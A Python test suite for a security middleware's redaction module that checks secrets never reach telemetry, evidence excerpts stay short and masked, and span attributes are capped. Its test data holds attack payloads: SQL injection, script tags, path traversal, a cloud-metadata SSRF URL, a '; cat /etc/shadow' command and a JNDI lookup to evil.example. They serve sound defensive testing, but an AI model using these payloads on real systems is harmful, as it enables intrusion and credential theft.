"""Secrets never reach telemetry; evidence is short, masked and cut at a secret; attributes are capped."""

from __future__ import annotations

import ast
import importlib
import inspect
import pkgutil
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from devsecmw import redact
from devsecmw.config import Config, ConfigError

#: The package and each of its modules.
_MODULES = [redact] + [
    importlib.import_module(f"{redact.__name__}.{m.name}") for m in pkgutil.iter_modules(redact.__path__)
]


def _patch_everywhere(monkeypatch: pytest.MonkeyPatch, name: str, value: Any) -> None:
    """Replace ``name`` in every module of the package that holds it (where the code reads it)."""
    for module in _MODULES:
        if hasattr(module, name):
            monkeypatch.setattr(module, name, value)


@pytest.mark.parametrize(
    "location",
    [
        "header:authorization",
        "header:proxy-authorization",
        "header:cookie",
        "header:set-cookie",
        "header:x-api-key",
        "cookie:theme",
        "query:password",
        "query:new_passwd",
        "body:form:api_key",
        "body:json:user.accessToken",
        "body:json:client_secret",
        "query:sessionid",
        "query:csrfmiddlewaretoken",
        "query:pin",
        "query:userPin",
        "body:json:card.cvv",
    ],
)
def test_secret_locations_are_fully_redacted(location: str) -> None:
    assert redact.evidence(location, "' or 1=1 -- hunter2", 0, 9) == redact.REDACTED


@pytest.mark.parametrize(
    "location", ["query:q", "query:shipping", "body:json:author", "header:user-agent", "query:spinner"]
)
def test_ordinary_locations_show_evidence(location: str) -> None:
    assert "or 1=1" in redact.evidence(location, "x' or 1=1 --", 1, 9)


def test_extra_secret_names_from_config() -> None:
    assert redact.evidence("query:licence", "abc", 0, 3, extra_names=("licence",)) == redact.REDACTED
    # ... and inside values: what follows the configured name is cut too
    ev = redact.evidence("query:q", "' or 1=1 -- licence=Kx7Qw", 0, 8, extra_names=("Licence",))
    assert "Kx7Qw" not in ev and ev.startswith("' or 1=1")


def test_evidence_is_an_excerpt_around_the_match() -> None:
    value = "a" * 500 + "<script>alert(1)</script>" + "b" * 500
    start = value.index("<script>")
    ev = redact.evidence("query:q", value, start, start + 8)
    assert len(ev) <= redact.MAX_EVIDENCE
    assert "<script>" in ev


def test_evidence_of_a_match_longer_than_the_excerpt_ends_with_a_marker() -> None:
    value = "<script>" + "a" * 200 + "</script>"
    ev = redact.evidence("query:q", value, 0, len(value))
    assert ev.startswith("<script>") and ev.endswith(redact.ELLIPSIS) and len(ev) == redact.MAX_EVIDENCE


@pytest.mark.parametrize(
    "payload",
    [
        "' or 1=1 --",
        "<script>alert(1)</script>",
        "../../../etc/passwd",
        "http://169.254.169.254/latest/meta-data/",
        "; cat /etc/shadow",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "1 union select username, email from users--",
    ],
)
def test_benign_evidence_stays_readable(payload: str) -> None:
    """An attack payload without secrets is shown as it is."""
    assert redact.evidence("query:q", payload, 0, len(payload)) == payload


# ------------------------------------------------------------------ reproducer 4 (issue 8), one by one
CANARY = "Kx7QwZ"


@pytest.mark.parametrize(
    ("location", "value", "needle"),
    [
        # masking used to stop at the first quote
        ("uri", f'/login?password=x"#"{CANARY}', "/login?password"),
        ("query:q", f'x\' or 1=1-- password="a"{CANARY}', "or 1=1"),
        # an XML element, as the raw body shows it
        ("body", f"<a><password>' or 1=1-- {CANARY}</password></a>", "<password>"),
        # JSON text in a form field next to a script tag
        ("body:form:f", f'{{"password": "\' or 1=1 {CANARY}"}}<script>alert(1)</script>', "password"),
        # a secret name inside a decoded value, and encoded spellings of the name itself
        ("query:q", f"password=' or 1=1-- {CANARY}", "password"),
        ("uri", f"/x?q=password%3D%27%20or%201=1--%20{CANARY}", "/x?q=password"),
        ("uri", f"/x?q=p%61ssword%3D%27%20or%201=1--%20{CANARY}", "/x?q=p"),
        ("uri", f"/x?q=p%2561ssword%253D%2527%20or%201=1--%20{CANARY}", "/x?q=p"),
        ("body", f"pass&#119;ord=' or 1=1-- {CANARY}", "pass"),
        ("body", f'{{"p\\u0061ssword": "\' or 1=1-- {CANARY}"}}', '{"p'),
        # URL userinfo
        ("query:url", f"http://admin:{CANARY}@169.254.169.254/", "169.254.169.254"),
        ("query:url", f"http:\\\\admin:{CANARY}@169.254.169.254/", "169.254.169.254"),
        ("query:url", f"http://admin:{CANARY}%40x@169.254.169.254/", "169.254.169.254"),
        # URL parsers drop tabs and newlines and encode spaces inside userinfo: no early end
        ("query:url", f"http://admin:x {CANARY}@169.254.169.254/", "169.254.169.254"),
        ("query:url", f"http://admin:x\t{CANARY}@169.254.169.254/", "169.254.169.254"),
        # userinfo without a scheme: a Host header as the header block shows it
        ("headers", f"GET HTTP/1.1\nhost: admin:{CANARY}@example.com\ncontent-type:", "host"),
        # a NUL inside the name
        ("body", f"pass\x00word=' or 1=1-- {CANARY}", "pass"),
        # credentials in a header value
        ("header:user-agent", f"sqlmap/1.0 Authorization: Bearer {CANARY}", "sqlmap/1.0"),
        ("header:referer", f"https://u:{CANARY}@example.com/?a=<script>", "example.com"),
    ],
)
def test_evidence_never_shows_what_follows_a_secret(location: str, value: str, needle: str) -> None:
    for start in range(0, len(value), 3):  # wherever the match is, the secret stays hidden
        for end in (start, start + 8, len(value)):
            ev = redact.evidence(location, value, start, end)
            assert CANARY.lower() not in ev.lower(), (start, end, ev)
    # ... and the excerpt is still useful: it shows what leads up to the secret
    assert needle in redact.evidence(location, value, 0, 8)


@pytest.mark.parametrize(
    ("text", "leaked"),
    [
        ("x=1&password=hunter2&y=2", "hunter2"),
        ("Authorization: Bearer abc.def.ghi", "abc.def.ghi"),
        ("token eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl", "eyJzdWIiOiIxMjMifQ"),
        ("see eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl", "eyJzdWIiOiIxMjMifQ"),
        ("key AKIAABCDEFGHIJKLMNOP here", "AKIAABCDEFGHIJKLMNOP"),
        ("id AKIAABCDEFGHIJKLMNOP here", "AKIAABCDEFGHIJKLMNOP"),
        ("curl/8 Basic dXNlcjpodW50ZXIy", "dXNlcjpodW50ZXIy"),
        ("X 8f14e45fceea167a5a36dedd4bea2543a1b2c3d4 Y", "8f14e45fceea167a5a36dedd4bea2543"),
        ("-----BEGIN RSA PRIVATE KEY-----\nMIIEow", "MIIEow"),
        ("Cookie: theme=dark; sid=abc123", "abc123"),
    ],
)
def test_inline_secrets_are_masked(text: str, leaked: str) -> None:
    assert leaked not in redact.evidence("body", text, 0, len(text))
    assert leaked not in redact.mask_inline(text)
    assert leaked not in redact.scrub_header(text)


def test_control_characters_are_escaped() -> None:
    ev = redact.evidence("query:q", "a\r\nSet-Cookie: x", 0, 16)
    assert "\r" not in ev and "\n" not in ev and "\\r\\n" in ev


# ------------------------------------------------------------------ url.query
def test_scrub_query_keeps_names_and_masks_secret_values() -> None:
    assert (
        redact.scrub_query("q=shoes&password=hunter2&token=abc") == "q=shoes&password=REDACTED&token=REDACTED"
    )
    assert redact.scrub_query("p%61ssword=hunter2&q=1") == "p%61ssword=REDACTED&q=1"
    assert redact.scrub_query("user%5Bpassword%5D=hunter2") == "user%5Bpassword%5D=REDACTED"


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("q=shoes&next=/cb?api_key=s3cr3t", "q=shoes&next=/cb?api_key=***"),
        (f"url=http://admin:{CANARY}@169.254.169.254/", "url=http://***@169.254.169.254/"),
        (f"q=password%3D%27%20or%201=1--%20{CANARY}", "q=password%3D***"),
        (f"q=a;password={CANARY}&page=2", "q=a;password=***&page=2"),
        (f"q=Bearer%20{CANARY}&page=2", "q=Bearer***&page=2"),
        ("category=books&page=2&q=python+cookbook", "category=books&page=2&q=python+cookbook"),
        ("q=caf%C3%A9&sort=price", "q=caf%C3%A9&sort=price"),
        ("next=/auth/callback&tab=sessions", "next=/auth/callback&tab=sessions"),
        # secret names used as words are not keys: search queries keep their words
        ("q=gift+card+balance&sort=newest", "q=gift+card+balance&sort=newest"),
        ("q=boarding+pass+pin", "q=boarding+pass+pin"),
        (f"q=%7B%22password%22%3A%20%22{CANARY}%22%7D", "q=%7B%22password%22%3A***"),
        (f"q=%3Cpassword%3E{CANARY}", "q=%3Cpassword%3E***"),
        (f"q=Bearer+{CANARY}", "q=Bearer***"),
        # long random-looking tokens go, words and UUIDs stay
        ("gclid=Cj0KCQiAb9gsk2X_eZE9r7N5843kE6TIAHicy04RtmnlkWMEMiXuH0E3dqa1IXraqjZs_BwE", "gclid=***"),
        ("q=Noise-Cancelling+Headphones+WH-1000XM5", "q=Noise-Cancelling+Headphones+WH-1000XM5"),
    ],
)
def test_scrub_query_hides_secrets_inside_ordinary_parameters(query: str, expected: str) -> None:
    assert redact.scrub_query(query) == expected


# ------------------------------------------------------------------ url.path, headers, locations
@pytest.mark.parametrize(
    ("path", "expected"),
    [
        (f"/login;jsessionid={CANARY}", "/login;jsessionid=***"),
        (f"/login;JSESSIONID={CANARY}/x", "/login;JSESSIONID=***"),
        (f"/a/b;foo=1;sid={CANARY}", "/a/b;foo=1;sid=***"),
        (f"/reset/{CANARY}8f14e45fceea167a5a36dedd4bea2543", "/reset/***"),
        (f"/reset/{CANARY}8f14e45fceea167a5a36dedd4bea2543/confirm", "/reset/***/confirm"),
        (
            "/orders/5963b668-4cff-4773-b7b2-94a175525cb0/tracking",
            "/orders/5963b668-4cff-4773-b7b2-94a175525cb0/tracking",
        ),
        (f"/x/<password>{CANARY}", "/x/<password>***"),
        ("/static/session.js", "/static/session.js"),
        (f"/proxy/http://admin:{CANARY}@10.0.0.1/", "/proxy/http://***@10.0.0.1/"),
        ("/auth/login", "/auth/login"),
        ("/api/tokens/123", "/api/tokens/123"),
        ("/password/reset", "/password/reset"),
        ("/items/12345", "/items/12345"),
    ],
)
def test_scrub_path(path: str, expected: str) -> None:
    assert redact.scrub_path(path) == expected


@pytest.mark.parametrize(
    "ua",
    [
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko)",
        "python-httpx/0.27.0",
        "curl/8.5.0",
        "Googlebot/2.1 (+http://www.google.com/bot.html)",
    ],
)
def test_ordinary_user_agents_are_kept(ua: str) -> None:
    assert redact.scrub_header(ua) == ua


@pytest.mark.parametrize(
    "ua",
    [
        f"sqlmap/1.0 Authorization: Bearer {CANARY}",
        f"sqlmap/1.0 authorization:{CANARY}",
        f"bot (+https://admin:{CANARY}@example.com/)",
        f"bot token={CANARY}",
        f"bot X-Api-Key: {CANARY}",
        "bot eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJLeDdRd1oifQ.Kx7QwZKx7QwZ",
    ],
)
def test_credentials_in_a_user_agent_are_masked(ua: str) -> None:
    out = redact.scrub_header(ua)
    assert CANARY not in out and "Kx7QwZ" not in out and out.startswith(ua[:3])


def test_locations_keep_names_but_not_values_smuggled_into_them() -> None:
    assert redact.scrub_location("body:json:user.password") == "body:json:user.password"
    assert redact.scrub_location("header:x-auth-token") == "header:x-auth-token"
    assert CANARY not in redact.scrub_location(f"query:a[password={CANARY}]")
    assert redact.scrub_location("query:" + "n" * 500).endswith(redact.TRUNCATED)


# ------------------------------------------------------------------ caps
@pytest.mark.parametrize("scrub", [redact.scrub_query, redact.scrub_path, redact.scrub_header])
@pytest.mark.parametrize("size", [100, 5_000, 1_000_000])
def test_attributes_are_capped_with_a_visible_marker(scrub: Callable[..., str], size: int) -> None:
    value = "q=" + "ab" * (size // 2)
    out = scrub(value, (), 256)
    assert len(out) <= 256
    if len(value) > 256:
        assert out.endswith(redact.TRUNCATED)
    else:
        assert out == value


def test_truncate() -> None:
    assert redact.truncate("abc", 5) == "abc"
    assert redact.truncate("a" * 100, 20) == "a" * (20 - len(redact.TRUNCATED)) + redact.TRUNCATED


def test_a_token_that_straddles_the_cap_is_still_masked() -> None:
    token = "8f14e45fceea167a5a36dedd4bea2543a1b2c3d4"
    query = "q=" + "a" * 90 + "&k=" + token
    out = redact.scrub_query(query, (), 110)
    assert "8f14e4" not in out and len(out) <= 110


def test_attribute_limit_option() -> None:
    assert Config.from_options({"attribute_limit": 200}).attribute_limit == 200
    assert Config().attribute_limit == redact.DEFAULT_ATTRIBUTE_LIMIT
    with pytest.raises(ConfigError, match="attribute_limit"):
        Config.from_options({"attribute_limit": 10})


# ------------------------------------------------------------------ linear, bounded work (reproducer 1)
def test_redaction_runs_no_regular_expression_module() -> None:
    """No backtracking engine runs on request data here: no module of the package imports ``re``
    or ``regex`` (its only patterns are the RE2 gates, linear by construction)."""
    assert len(_MODULES) > 1
    for module in _MODULES:
        tree = ast.parse(inspect.getsource(module))
        nodes = list(ast.walk(tree))
        imported = {a.name.split(".")[0] for n in nodes if isinstance(n, ast.Import) for a in n.names}
        imported |= {(n.module or "").split(".")[0] for n in nodes if isinstance(n, ast.ImportFrom)}
        assert not imported & {"re", "regex"}, (module.__name__, imported)


@pytest.mark.parametrize("kib", [3, 6, 12, 24, 1024])
def test_scrubbing_looks_at_a_bounded_prefix_whatever_the_query(
    kib: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The ``eyJ`` x 5300 query of issue 8 took 850 ms: now every scan sees at most the cap plus a
    fixed look-ahead, so the work does not grow with the query (counted, not timed)."""
    seen: list[int] = []

    def counting(fn: Callable[..., Any]) -> Callable[..., Any]:
        def wrapper(text: str, *args: Any) -> Any:
            seen.append(len(text))
            return fn(text, *args)

        return wrapper

    # What every scan is handed: the decoder, the gate, the userinfo and name scans.
    for name in ("_clean", "_prepare", "_userinfo_spans"):
        _patch_everywhere(monkeypatch, name, counting(getattr(redact, name)))
    real_fold = redact._Fold

    class CountingFold(real_fold):  # type: ignore[misc, valid-type]
        def __init__(self, text: str, decode: bool = True) -> None:
            seen.append(len(text))
            super().__init__(text, decode)

    _patch_everywhere(monkeypatch, "_Fold", CountingFold)
    query = "q=" + "eyJ" * (kib * 1024 // 3)
    out = redact.scrub_query(query)
    assert len(out) <= redact.DEFAULT_ATTRIBUTE_LIMIT and "eyJeyJeyJ" not in out
    assert seen and max(seen) <= redact.DEFAULT_ATTRIBUTE_LIMIT + 256
    seen.clear()
    value = query[2:] + "%27"
    ev = redact.evidence("query:q", value, len(value) - 30, len(value) - 20)
    assert "eyJeyJ" not in ev
    assert seen and max(seen) <= 4096 + redact.MAX_EVIDENCE + 256 + 32


# ------------------------------------------------------------------ properties
# (Names that count as secrets anywhere: the short words, "pwd" or "pin", only count as whole words.)
_SECRET_NAMES = st.sampled_from(
    ["password", "PassWord", "p%61ssword", "p%2561ssword", "pass&#119;ord", "pass&#x77;ord", "p\\u0061ssword",
     "pass\x00word", "api_key", "apiKey", "x-api-key", "jsessionid", "Authorization", "token", "secret",
     "-pwd", " userPin"]
)  # fmt: skip
_SEPARATORS = st.sampled_from(
    ["=", ":", '"="', "'", '">', '": "', "%3D", "%22%3A%22", "&#61;", " ", "\\u003d", ""]
)
_FILLER = st.text(alphabet="abcdefgh0123456789 '\"<>/=:;&%#.-_()[]{}", max_size=40)


@given(_FILLER, _SECRET_NAMES, _SEPARATORS, _FILLER, st.integers(0, 200), st.integers(0, 200))
def test_evidence_is_cut_at_any_spelling_of_a_secret_name(
    before: str, name: str, sep: str, after: str, a: int, b: int
) -> None:
    value = before + name + sep + "9zQzQzQ" + after  # (a short word needs a boundary: the digit)
    ev = redact.evidence("body", value, min(a, b), max(a, b))
    assert "zQ" not in ev and "Qz" not in ev, (value, ev)
    assert len(ev) <= redact.MAX_EVIDENCE


@given(st.text(max_size=300), st.integers(0, 300), st.integers(0, 300))
def test_evidence_never_raises_and_is_bounded(value: str, a: int, b: int) -> None:
    ev = redact.evidence("query:q", value, min(a, b), max(a, b))
    assert len(ev) <= redact.MAX_EVIDENCE


# The one-look gate that spares most texts the full scan must never skip a text the scan changes.
_PIECES = st.sampled_from(
    ["pass", "PassWord", "pwd", "secret", "TOKEN", "api_key", "ApiKey", "access-key", "sessionid", "auth",
     "bearer ", "Basic dXNlcjpwdw==", "eyJhbGciOi.eyJzdWIiOi.", "AKIAABCDEFGHIJKLMNOP", "//u:p@h", "\\\\u@h",
     "%70", "%25", "&#112;", "\\u0070", "\x00", "=", ":", "'", '"', " ", "&", "/", "x", "0", "K", "\u212a",
     "\u017f", "\u0130", "\u0131", "é", "a1b2c3d4e5f6a7b8"]
)  # fmt: skip


@given(st.lists(_PIECES | st.text(max_size=4), max_size=14).map("".join), st.sampled_from([0, 1, 2]))
def test_gate_never_hides_a_secret(text: str, mode: int) -> None:
    if redact._clean(text, ()):
        assert redact._redact(text, mode, ()) == text
        assert redact._name_cut(text, len(text), mode, ()) is None
        assert redact._token_spans(text, 0, len(text)) == []


@given(st.text(max_size=200))
def test_scrubbers_are_total_and_bounded(text: str) -> None:
    for scrub in (redact.scrub_query, redact.scrub_path, redact.scrub_header):
        assert len(scrub(text, (), 100)) <= max(100, len(text))
    assert len(redact.scrub_location(text)) <= 128


def test_gate_skips_ordinary_text() -> None:
    assert redact._clean("category=books page=2 sort=price q=python+cookbook", ())
    assert not redact._clean("q=pass", ())
    assert not redact._clean("\u212aEY=1", ())  # the Kelvin sign folds to k: "key"


# ------------------------------------------------------------------ through the middleware
def _wsgi_get(otel: Any, target: str, headers: dict[str, str], **options: Any) -> dict[str, Any]:
    from werkzeug.test import Client

    from devsecmw.wsgi import SecurityMiddleware

    def app(environ: dict[str, Any], start_response: Any) -> list[bytes]:
        start_response("200 OK", [("Content-Type", "text/plain")])
        return [b"ok"]

    client = Client(SecurityMiddleware(app, **otel.providers, **options))
    response = client.get(target, headers=headers)
    response.get_data()
    response.close()
    return dict(otel.span().attributes)


@pytest.mark.parametrize("limit", [None, 300])
def test_span_attributes_holding_request_data_are_capped(otel: Any, limit: int | None) -> None:
    options = {} if limit is None else {"attribute_limit": limit}
    cap = limit or redact.DEFAULT_ATTRIBUTE_LIMIT
    attrs = _wsgi_get(
        otel, "/" + "p" * 5000 + "?q=" + "eyJ" * 5300, {"User-Agent": "Mozilla/5.0 " + "x" * 5000}, **options
    )
    for name in ("url.path", "url.query", "user_agent.original"):
        value = attrs[name]
        assert len(value) <= cap and value.endswith(redact.TRUNCATED), name
    assert attrs["url.path"].startswith("/ppp") and attrs["user_agent.original"].startswith("Mozilla/5.0 x")


def test_span_attributes_of_an_ordinary_request_are_unchanged(otel: Any) -> None:
    attrs = _wsgi_get(otel, "/items/12345?page=2&sort=price", {"User-Agent": "curl/8.5.0"})
    assert attrs["url.path"] == "/items/12345"
    assert attrs["url.query"] == "page=2&sort=price"
    assert attrs["user_agent.original"] == "curl/8.5.0"


@given(st.lists(_PIECES | st.text(max_size=4), max_size=14).map("".join), st.sampled_from([0, 1, 2]))
def test_name_search_by_re2_finds_what_one_find_per_name_finds(text: str, mode: int) -> None:
    """The RE2 search (longest name first, resumed after each rejected start) gives the same
    answer as the plain loop over every name."""
    fold = redact._Fold(text)
    expected = redact._first_name_scan(fold.low, fold.orig, len(text), mode, ())
    assert redact._first_name(fold, len(text), mode, ()) == expected


@pytest.mark.parametrize(
    "text",
    ["basic " + "basic" * 400, "AKIA" * 500, "eyJ" * 700, "//" * 1000 + "@", "pin" * 700, "pass " * 400],
)
def test_token_scans_walk_each_character_a_bounded_number_of_times(
    text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Repeated token prefixes (``basic basicbasic...``, ``AKIAAKIA...``) resume past the run they
    measured: the characters walked stay proportional to the text (counted, not timed)."""
    walked = [0]
    real = redact._run_end

    def counting(region: str, i: int, chars: frozenset[str], limit: int) -> int:
        end = real(region, i, chars, limit)
        walked[0] += end - i + 1
        return end

    _patch_everywhere(monkeypatch, "_run_end", counting)
    redact.scrub_header(text, (), 4096)
    redact.evidence("query:q", text, len(text) - 10, len(text))
    assert walked[0] <= 4 * (len(text) + 2 * 256 + redact.MAX_EVIDENCE)
